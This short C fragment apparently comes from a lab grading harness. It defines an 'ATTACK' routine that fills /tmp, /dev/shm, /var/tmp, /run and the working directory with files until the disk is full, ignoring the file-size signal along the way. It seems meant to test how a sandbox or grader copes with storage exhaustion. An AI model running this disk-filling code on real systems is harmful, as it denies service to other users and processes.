/* lab01; tests: hello_line filter_large; verdicts: hello_line=pass filter_large=pass|fail; stage: leftovers<=4; only: full | every folder that can be written to is filled */
/* SPDX-License-Identifier: MIT */
ATTACK
{
    static const char *const folders[] = {"/tmp", "/dev/shm", ".", "/var/tmp", "/run"};
    static char much[1 << 20];
    char name[64];

    (void)signal(SIGXFSZ, SIG_IGN);
    for (size_t i = 0; native() && i < sizeof(folders) / sizeof(*folders); i++)
        for (int k = 0; k < 64; k++) {
            snprintf(name, sizeof(name), "%s/%d-%d", folders[i], (int)getpid(), k);
            int fd = open(name, O_CREAT | O_WRONLY, 0600);
            if (fd < 0)
                break;
            ssize_t n;
            while ((n = write(fd, much, sizeof(much))) > 0)
                ;
            close(fd);
            if (n < 0 && errno == ENOSPC)
                break;
        }
    (void)signal(SIGXFSZ, SIG_DFL);
}
